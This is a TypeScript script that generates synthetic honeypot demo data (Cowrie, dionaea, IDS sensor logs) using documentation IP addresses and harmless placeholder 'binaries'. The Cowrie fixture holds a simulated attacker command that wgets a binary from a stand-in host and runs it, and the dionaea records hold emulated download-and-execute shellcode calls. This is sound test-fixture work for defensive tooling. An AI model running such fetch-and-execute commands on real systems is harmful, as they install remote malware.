/**
 * Regenerates the bundled synthetic demo data in demo/ (committed, so `cleancenter demo` needs no
 * build step). Deterministic: the same seed gives the same files. Only documentation addresses
 * (192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24, 2001:db8::/32) and .example names appear.
 *
 *   node --import tsx scripts/make-demo-data.ts
 */
import { createHash } from 'node:crypto';
import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import { writeMmdb } from '../src/enrich/geo/mmdb-writer.js';

const OUT = new URL('../demo/', import.meta.url).pathname;
let seed = 20240501;
function rand(): number {
  seed = (seed + 0x6d2b79f5) >>> 0;
  let t = seed;
  t = Math.imul(t ^ (t >>> 15), t | 1);
  t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
  return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
}
const pick = <T>(a: readonly T[]): T => a[Math.floor(rand() * a.length)] as T;
const int = (lo: number, hi: number): number => lo + Math.floor(rand() * (hi - lo + 1));
const START = Date.UTC(2024, 4, 1); // May 2024
const at = (day: number, sec: number): Date => new Date(START + day * 86400_000 + sec * 1000);

rmSync(OUT, { recursive: true, force: true });
for (const d of ['cowrie', 'dionaea', 'sensors', 'downloads', 'geo']) mkdirSync(join(OUT, d), { recursive: true });

// Infected hosts: a few dozen per documentation range, some IPv6.
const hosts = [
  ...Array.from({ length: 40 }, (_, i) => `192.0.2.${10 + i * 5}`),
  ...Array.from({ length: 40 }, (_, i) => `198.51.100.${3 + i * 6}`),
  ...Array.from({ length: 40 }, (_, i) => `203.0.113.${2 + i * 6}`),
  ...Array.from({ length: 8 }, (_, i) => `2001:db8:1::${(i + 1).toString(16)}`),
];

// Bot binaries: harmless text, named the way each honeypot names them.
const bins = Array.from({ length: 8 }, (_, i) => Buffer.from(`cleancenter demo sample ${i}: not a real bot, just bytes to hash\n`));
const md5 = (b: Buffer): string => createHash('md5').update(b).digest('hex');
const sha256 = (b: Buffer): string => createHash('sha256').update(b).digest('hex');
for (const [i, b] of bins.entries()) {
  // dionaea stores by MD5, Cowrie by SHA-256; sample 7 was never captured (known only by hash).
  if (i === 7) continue;
  writeFileSync(join(OUT, 'downloads', i % 2 === 0 ? md5(b) : sha256(b)), b);
}
// A truncated capture: named by the MD5 of sample 6 but holding fewer bytes.
writeFileSync(join(OUT, 'downloads', md5(bins[6] as Buffer).replace(/.$/, '0')), (bins[6] as Buffer).subarray(0, 10));
writeFileSync(
  join(OUT, 'known-hashes.txt'),
  `# Hashes an anti-virus vendor already detects (synthetic).\n${sha256(bins[0] as Buffer)} Demo.Bot.A\n${md5(bins[1] as Buffer)} Demo.Bot.B\n${sha256(bins[2] as Buffer)} Demo.Worm.C\n`,
);

// ---- Cowrie JSON (current field names) with a few broken lines.
{
  const lines: string[] = [];
  for (let s = 0; s < 120; s++) {
    const ip = pick(hosts);
    const session = createHash('md5').update(`c${s}`).digest('hex').slice(0, 12);
    const day = int(0, 29);
    let t = int(0, 80000);
    const base = { src_ip: ip, session, sensor: 'cowrie-tokyo-1' };
    const ts = (): string => at(day, (t += int(1, 5))).toISOString();
    lines.push(JSON.stringify({ eventid: 'cowrie.session.connect', src_port: int(1024, 65000), dst_ip: '192.0.2.200', dst_port: 22, protocol: 'ssh', timestamp: ts(), ...base }));
    lines.push(JSON.stringify({ eventid: 'cowrie.client.version', version: 'SSH-2.0-Go', timestamp: ts(), ...base }));
    const ok = rand() < 0.5;
    lines.push(JSON.stringify({ eventid: ok ? 'cowrie.login.success' : 'cowrie.login.failed', username: 'root', password: 'admin', timestamp: ts(), ...base }));
    if (ok && rand() < 0.6) {
      const b = bins[pick([1, 3, 5])] as Buffer;
      const url = `http://203.0.113.250/bins/${s % 3 === 0 ? 'x86' : 'arm7'}`;
      lines.push(JSON.stringify({ eventid: 'cowrie.command.input', input: `cd /tmp; wget ${url}; chmod +x x86; ./x86`, timestamp: ts(), ...base }));
      lines.push(JSON.stringify({ eventid: 'cowrie.session.file_download', url, shasum: sha256(b), outfile: `var/lib/cowrie/downloads/${sha256(b)}`, duplicate: s > 10, timestamp: ts(), ...base }));
    }
    lines.push(JSON.stringify({ eventid: 'cowrie.session.closed', duration_ms: int(500, 9000), timestamp: ts(), ...base }));
  }
  lines.splice(17, 0, '{"eventid": "cowrie.session.connect", "src_ip": "203.0.113.77", "src_port": "not-a-port"');
  lines.splice(40, 0, '{"eventid": "cowrie.session.connect", "src_ip": 12, "src_port": 4000, "timestamp": "2024-05-03T00:00:00Z", "session": "ffff00001111"}');
  lines.push('{"eventid": "cowrie.session.connect", "src_ip": "198.51.100.99", "timest');
  writeFileSync(join(OUT, 'cowrie', 'cowrie.json'), `${lines.join('\n')}`);
}

// ---- dionaea log_json (flat) lines: connections on several ports, with a couple of bad lines.
{
  const lines: string[] = [];
  const services = [
    ['smbd', 445],
    ['epmapper', 135],
    ['httpd', 80],
    ['mssqld', 1433],
  ] as const;
  for (let i = 0; i < 600; i++) {
    const [proto, port] = pick(services);
    const ts = at(int(0, 29), int(0, 86399)).toISOString().replace('Z', '').replace(/\.(\d{3})$/, '.$1000');
    lines.push(JSON.stringify({ connection: { protocol: proto, transport: 'tcp', type: 'accept' }, dst_ip: '198.51.100.250', dst_port: port, src_hostname: '', src_ip: pick(hosts.slice(40)), src_port: int(1024, 65000), timestamp: ts }));
  }
  lines.splice(100, 0, '{"connection": {"protocol": "smbd", "transport": "tcp", "type": "accept"}, "dst_ip": "198.51.100.250", "dst_port": 445, "src_ip": "999.1.2.3", "src_port": 1, "timestamp": "2024-05-02T00:00:00"}');
  lines.splice(200, 0, 'this is not json at all');
  writeFileSync(join(OUT, 'dionaea', 'dionaea.json'), `${lines.join('\n')}\n`);
}

// ---- dionaea log_sqlite: SMB exploitation (MS08-067, MS04-011, MS03-026), offers, downloads, emulated shellcode.
{
  const path = join(OUT, 'dionaea', 'logsql.sqlite');
  const db = new Database(path);
  db.exec(`
CREATE TABLE connections (connection INTEGER PRIMARY KEY, connection_type TEXT, connection_transport TEXT, connection_protocol TEXT, connection_timestamp INTEGER, connection_root INTEGER, connection_parent INTEGER, local_host TEXT, local_port INTEGER, remote_host TEXT, remote_hostname TEXT, remote_port INTEGER);
CREATE TABLE dcerpcbinds (dcerpcbind INTEGER PRIMARY KEY, connection INTEGER, dcerpcbind_uuid TEXT, dcerpcbind_transfersyntax TEXT);
CREATE TABLE dcerpcrequests (dcerpcrequest INTEGER PRIMARY KEY, connection INTEGER, dcerpcrequest_uuid TEXT, dcerpcrequest_opnum INTEGER);
CREATE TABLE emu_profiles (emu_profile INTEGER PRIMARY KEY, connection INTEGER, emu_profile_json TEXT);
CREATE TABLE offers (offer INTEGER PRIMARY KEY, connection INTEGER, offer_url TEXT);
CREATE TABLE downloads (download_timestamp INTEGER NOT NULL, download INTEGER PRIMARY KEY, connection INTEGER, download_url TEXT, download_md5_hash TEXT);
`);
  const vulns = [
    ['4b324fc8-1670-01d3-1278-5a47bf6ee188', 31, 'smbd', 445],
    ['3919286a-b10c-11d0-9ba8-00c04fd92ef5', 9, 'smbd', 445],
    ['4d9f4ab8-7d1c-11cf-861e-0020af6e7c57', 0, 'epmapper', 135],
  ] as const;
  let conn = 0;
  let dl = 0;
  const insConn = db.prepare('INSERT INTO connections VALUES (?,?,?,?,?,?,?,?,?,?,?,?)');
  for (let i = 0; i < 150; i++) {
    const [uuid, opnum, proto, port] = pick(vulns);
    const ip = pick(hosts.slice(0, 80));
    const ts = Math.floor(at(int(0, 29), int(0, 86399)).getTime() / 1000);
    const root = ++conn;
    insConn.run(root, 'accept', 'tcp', proto, ts, root, null, '192.0.2.250', port, ip, '', int(1024, 65000));
    db.prepare('INSERT INTO dcerpcbinds VALUES (NULL,?,?,?)').run(root, uuid, '8a885d04-1ceb-11c9-9fe8-08002b104860');
    db.prepare('INSERT INTO dcerpcrequests VALUES (NULL,?,?,?)').run(root, uuid, opnum);
    if (rand() < 0.6) {
      const b = bins[pick([0, 2, 4, 6, 7])] as Buffer;
      const url = `http://${ip}:${int(1024, 9000)}/${md5(b).slice(0, 6)}.exe`;
      db.prepare('INSERT INTO offers VALUES (NULL,?,?)').run(root, url);
      db.prepare('INSERT INTO emu_profiles VALUES (NULL,?,?)').run(
        root,
        JSON.stringify([
          { call: 'LoadLibraryA', args: ['urlmon'], return: '0x7df20000' },
          { call: 'URLDownloadToFile', args: ['', url, 'x.exe', '0', '0'], return: '0' },
          { call: 'WinExec', args: ['x.exe', '895'], return: '32' },
        ]),
      );
      const child = ++conn;
      insConn.run(child, 'connect', 'tcp', 'httpdownload', ts + 3, root, root, '192.0.2.250', int(30000, 60000), ip, '', 80);
      db.prepare('INSERT INTO downloads VALUES (?,?,?,?,?)').run(ts + 4, ++dl, child, url, md5(b));
    }
  }
  // Rows a reader must reject, not crash on.
  insConn.run(++conn, 'accept', 'tcp', 'smbd', 'yesterday', conn, null, '192.0.2.250', 445, '203.0.113.9', '', 1234);
  insConn.run(++conn, 'accept', 'tcp', 'smbd', 1715000000, conn, null, '192.0.2.250', 445, 'not-an-ip', '', 1234);
  db.close();
}

// ---- A third-party sensor in cleancenter's own JSON-lines format, and the same kind of data as CSV.
{
  const lines: string[] = [];
  const csv = ['sensor,time,src_ip,src_port,dst_ip,dst_port,protocol,stage,vulnerability'];
  for (let i = 0; i < 300; i++) {
    const stage = pick(['connect', 'connect', 'exploit'] as const);
    const rec = {
      id: `ids-${i}`,
      sensor: 'ids-osaka-2',
      time: at(int(0, 29), int(0, 86399)).toISOString(),
      src_ip: pick(hosts),
      src_port: int(1024, 65000),
      dst_ip: '203.0.113.251',
      dst_port: 445,
      protocol: 'smb',
      stage,
      ...(stage === 'exploit' ? { vulnerability: 'MS08-067' } : {}),
    };
    lines.push(JSON.stringify(rec));
    if (i < 100) csv.push([rec.sensor.replace('osaka', 'kyoto'), rec.time, rec.src_ip, rec.src_port, rec.dst_ip, rec.dst_port, rec.protocol, rec.stage, rec.stage === 'exploit' ? 'MS08-067' : ''].join(','));
  }
  lines.splice(50, 0, JSON.stringify({ id: 'ids-bad-1', sensor: 'ids-osaka-2', time: '2024-05-04T00:00:00Z', src_ip: '203.0.113.40', protocol: 'smb', stage: 'infected' }));
  writeFileSync(join(OUT, 'sensors', 'events.jsonl'), `${lines.join('\n')}\n`);
  csv.push('ids-kyoto-3,2024-05-05T00:00:00Z,198.51.100.300,1,203.0.113.251,445,smb,connect,');
  writeFileSync(join(OUT, 'sensors', 'events.csv'), `${csv.join('\n')}\n`);
}

// ---- The synthetic world's geography: home country "ZZ" (ISO 3166 private use) holds four /16 blocks.
writeFileSync(
  join(OUT, 'geo', 'demo-country.mmdb'),
  writeMmdb(
    ['192.0.0.0/16', '198.51.0.0/16', '203.0.0.0/16', '233.252.0.0/16', '2001:db8::/32'].map((prefix) => ({ prefix, record: { country: { iso_code: 'ZZ' } } })),
    { databaseType: 'cleancenter-demo-Country' },
  ),
);
writeFileSync(
  join(OUT, 'geo', 'demo-asn.csv'),
  ['192.0.2.0,192.0.2.255,64500,EXAMPLE-NET', '198.51.100.0,198.51.100.255,64501,SAMPLE-CABLE', '203.0.113.0,203.0.113.255,64502,TEST-MOBILE', '2001:db8::,2001:db8:ffff:ffff:ffff:ffff:ffff:ffff,64502,TEST-MOBILE'].join('\n') + '\n',
);
console.log(`demo data written to ${OUT}`);
